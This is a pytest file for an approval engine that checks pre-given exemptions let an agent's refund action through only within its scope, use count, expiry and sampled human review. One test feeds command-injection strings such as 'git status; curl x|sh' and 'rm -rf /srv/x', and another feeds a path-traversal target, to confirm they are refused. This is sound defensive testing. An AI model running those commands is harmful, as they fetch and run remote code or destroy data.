"""An approval given beforehand lets through just what it is for, as often as it says."""

from collections.abc import Callable
from unittest.mock import patch

import pytest

from engine import api, sweeper
from engine.approval import lot as real_lot
from engine.models import Decision, Effect, Exemption
from oversight.demo.placet_actions import Refund
from tests.cast import AGENT, reviewer
from tests.engine.chain import faults_in
from tests.engine.editing import edit
from tests.engine.exempting import (
    DRAWN,
    NEVER_DRAWN,
    asked,
    end,
    ends,
    given,
    is_let_through,
    its_end_comes,
    proposed,
    requested,
    said,
    versions,
)
from tests.engine.test_replay import assert_tables_match_the_log
from tests.engine.together import just_before
from tests.world import Desk

pytestmark = pytest.mark.usefixtures("lots")


class TestWhatItIsFor:
    def test_is_done_and_nobody_is_asked(self, desk: Desk) -> None:
        exemption = given(desk)
        run_id = desk.start_run()
        desk.ask_for_refund(run_id, order := desk.purchase())
        desk.work(run_id)

        assert desk.ledger.refunded(order) == "25.00"
        assert Effect.objects.get().committed_at is not None
        assert Decision.objects.count() == 0
        assert "proposal_approved" not in desk.database.kinds(run_id)
        assert faults_in(desk.database, run_id) == []
        assert_tables_match_the_log(desk.database, run_id)
        exemption.refresh_from_db()
        assert (exemption.used, exemption.status) == (1, "standing")

    def test_the_log_says_by_which_how_many_are_left_and_who_gave_it(self, desk: Desk) -> None:
        exemption = given(desk)
        desk.work(run_id := asked(desk))

        told = said(desk, run_id, "proposal_exempted")
        assert told["exemption"] == str(exemption.pk)
        assert told["exemption_digest"] == exemption.digest
        assert told["uses_left"] == 2
        assert told["people"] == [[desk.people.rosa.pk, "Rosa Lind"]]

    @pytest.mark.parametrize("amount", ["30.00", "0.01"])
    def test_up_to_the_most_that_it_may_be(self, amount: str, desk: Desk) -> None:
        given(desk)
        assert is_let_through(desk, amount=amount)

    def test_not_more_than_that(self, desk: Desk) -> None:
        given(desk)
        assert not is_let_through(desk, amount="30.01")

    def test_not_for_another_value_of_its_argument(self, desk: Desk) -> None:
        given(desk, scope={"kind": "argument", "argument": "customer", "value": "Mara Vogl"})
        assert not is_let_through(desk)

    def test_c72_not_for_what_rides_along_with_its_value(self, desk: Desk) -> None:
        """To the letter: neither a blank more nor a second command, in whatever form."""
        given(desk, scope={"kind": "argument", "argument": "customer", "value": "git status"})
        assert is_let_through(desk, customer="git status")
        for more in ("git  status", "git status && rm -rf /srv/x", "git status; curl x|sh"):
            assert not is_let_through(desk, customer=more), more
        for more in ("git status $(rm x)", "git status\nrm x", '"git status" -a | tail -5'):
            assert not is_let_through(desk, customer=more), more
        assert is_let_through(desk, customer="git status")

    def test_for_one_target(self, desk: Desk) -> None:
        given(desk, scope={"kind": "target", "value": "ledger, order A-1"})
        assert is_let_through(desk)
        assert not is_let_through(desk)

    def test_for_targets_that_begin_alike(self, desk: Desk) -> None:
        given(desk, scope={"kind": "beginning", "value": "ledger, order A-"})
        assert is_let_through(desk)

    def test_not_for_what_leads_away_from_there(self, desk: Desk) -> None:
        given(desk, scope={"kind": "beginning", "value": "ledger, order A-"})
        with patch.object(Refund, "target", lambda *_: "ledger, order A-/../B-1"):
            assert not is_let_through(desk)

    def test_not_for_targets_that_begin_otherwise(self, desk: Desk) -> None:
        given(desk, scope={"kind": "beginning", "value": "ledger, order B-"})
        assert not is_let_through(desk)

    def test_not_for_another_agent(self, desk: Desk) -> None:
        given(desk, agent="agent:night-desk")
        assert not is_let_through(desk)

    def test_not_for_another_action(self, desk: Desk) -> None:
        exemption = given(desk)
        desk.database.execute("UPDATE engine_exemption SET action = 'ledger.refund_all'")
        assert not is_let_through(desk)
        exemption.refresh_from_db()
        assert exemption.used == 0

    def test_not_for_what_was_changed_by_hand(self, desk: Desk) -> None:
        """Whatever it lets is read from what was approved."""
        given(desk)
        desk.database.execute(
            "UPDATE engine_exemption SET content ="
            " convert_to(replace(convert_from(content, 'UTF8'), '30.00', '90.00'), 'UTF8')"
        )
        assert not is_let_through(desk)

    def test_nor_with_a_digest_to_match(self, desk: Desk) -> None:
        """What people have approved is another one."""
        given(desk)
        desk.database.execute(
            "UPDATE engine_exemption SET content ="
            " convert_to(replace(convert_from(content, 'UTF8'), '30.00', '90.00'), 'UTF8');"
            " UPDATE engine_exemption SET digest = encode(sha256(content), 'hex')"
        )
        assert not is_let_through(desk)

    def test_not_after_its_end(self, desk: Desk) -> None:
        exemption = given(desk)
        its_end_comes(desk)
        assert not is_let_through(desk)
        assert ends(exemption) == ("standing", None)

    def test_not_before_it_is_given(self, desk: Desk) -> None:
        proposed(desk)
        assert not is_let_through(desk)


class TestWithAStory:
    """What was in people's hands before, people hear of again."""

    def test_what_was_rejected_is_asked(self, desk: Desk) -> None:
        order = desk.purchase()
        proposal = desk.propose_refund(order)
        desk.decide(proposal, "reject")
        given(desk)
        desk.work(proposal.run_id)
        again = {"despite": proposal.proposal_id, "what_changed": "There is a photograph."}
        requested(proposal.run_id, order, **again)
        desk.work(proposal.run_id)
        assert desk.proposal(proposal.run_id).status == "open"

    def test_what_was_returned_is_asked(self, desk: Desk) -> None:
        proposal = desk.propose_refund(order := desk.purchase())
        desk.decide(proposal, "return")
        given(desk)
        desk.work(proposal.run_id)
        desk.answer(proposal, order)
        desk.work(proposal.run_id)
        assert versions(proposal.run_id) == ["returned", "open"]

    def test_what_somebody_is_being_asked_is_not_let_through_beside_them(self, desk: Desk) -> None:
        proposal = desk.propose_refund(order := desk.purchase())
        given(desk)
        run_id = desk.start_run()
        desk.ask_for_refund(run_id, order)
        desk.work(run_id)
        assert versions(run_id) == ["open"]
        assert versions(proposal.run_id) == ["open"]

    def test_what_the_run_s_origin_has_done_is_asked(self, desk: Desk) -> None:
        given(desk)
        run_id = desk.start_run()
        desk.work(run_id)
        seq = desk.run(run_id).last_seq
        desk.ask_for_refund(run_id, order := desk.purchase())
        desk.work(run_id)
        fork = api.fork_run(run_id, seq, operator=reviewer(desk.people.otto), reason="Once more.")
        desk.ask_for_refund(fork, order)
        desk.work(fork)
        assert (versions(run_id), versions(fork)) == (["approved"], ["open"])


class TestItIsUsedUp:
    def test_by_its_last_use(self, desk: Desk) -> None:
        exemption = given(desk, uses=2)
        assert [is_let_through(desk) for _ in range(3)] == [True, True, False]
        assert ends(exemption) == ("standing", None)
        assert exemption.used == 2

    def test_a_use_is_not_given_back_when_the_gate_refuses(self, desk: Desk) -> None:
        exemption = given(desk)
        run_id = asked(desk)
        with just_before("intend_effect", lambda: end(exemption, desk.people.rosa)):
            desk.work(run_id)
        exemption.refresh_from_db()
        assert exemption.used == 1


class TestOneInSoMany:
    @pytest.fixture
    def exemption(self, desk: Desk, lots: Callable[[int], None]) -> Exemption:
        exemption = given(desk, one_in=4)
        lots(DRAWN)
        return exemption

    def test_is_asked_of_a_person_and_counts_as_a_use(
        self, exemption: Exemption, desk: Desk
    ) -> None:
        desk.work(run_id := asked(desk))
        assert versions(run_id) == ["open"]
        assert said(desk, run_id, "proposal_drawn")["exemption"] == str(exemption.pk)
        assert_tables_match_the_log(desk.database, run_id)
        exemption.refresh_from_db()
        assert exemption.used == 1

    def test_lets_the_others_go_on_once_a_person_has_approved_it(
        self, exemption: Exemption, desk: Desk, lots: Callable[[int], None]
    ) -> None:
        desk.work(run_id := asked(desk))
        desk.approve(desk.proposal(run_id))
        desk.work(run_id)
        assert Effect.objects.get().committed_at is not None
        lots(NEVER_DRAWN)
        assert is_let_through(desk)

    def test_is_as_many_as_it_says(
        self, exemption: Exemption, desk: Desk, lots: Callable[[int], None]
    ) -> None:
        drawn = []
        for lot in (4, 5, 8):
            lots(lot)
            drawn.append(not is_let_through(desk))
        assert drawn == [True, False, True]

    def test_its_rejection_ends_the_exemption(self, exemption: Exemption, desk: Desk) -> None:
        desk.work(run_id := asked(desk))
        desk.decide(desk.proposal(run_id), "reject")
        assert ends(exemption) == ("ended", "rejected")

    def test_the_agent_cannot_draw_again_by_taking_it_back(
        self, exemption: Exemption, desk: Desk
    ) -> None:
        desk.work(run_id := asked(desk))
        api.withdraw_proposal(run_id, desk.proposal(run_id).proposal_id, agent=AGENT)
        assert ends(exemption) == ("ended", "not_approved")

    def test_what_nobody_looks_at_in_time_ends_it(self, exemption: Exemption, desk: Desk) -> None:
        desk.work(run_id := asked(desk))
        desk.database.deadline_passes_for(desk.proposal(run_id).pk)
        sweeper.run_once()
        assert ends(exemption) == ("ended", "not_approved")

    def test_an_edit_of_it_ends_it(self, exemption: Exemption, desk: Desk) -> None:
        desk.work(run_id := asked(desk))
        edit(desk, desk.proposal(run_id), amount="20.00")
        assert ends(exemption) == ("ended", "not_approved")

    def test_a_run_that_is_cancelled_over_it_ends_it(
        self, exemption: Exemption, desk: Desk
    ) -> None:
        desk.work(run_id := asked(desk))
        api.cancel_run(run_id, operator=reviewer(desk.people.otto), reason="Not needed.")
        desk.work(run_id)
        assert ends(exemption) == ("ended", "not_approved")

    def test_cannot_be_told_beforehand(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """It comes from the source that the operating system has for secrets."""
        monkeypatch.setattr("secrets.randbelow", lambda limit: limit - 7)
        assert real_lot() == 2**31 - 7
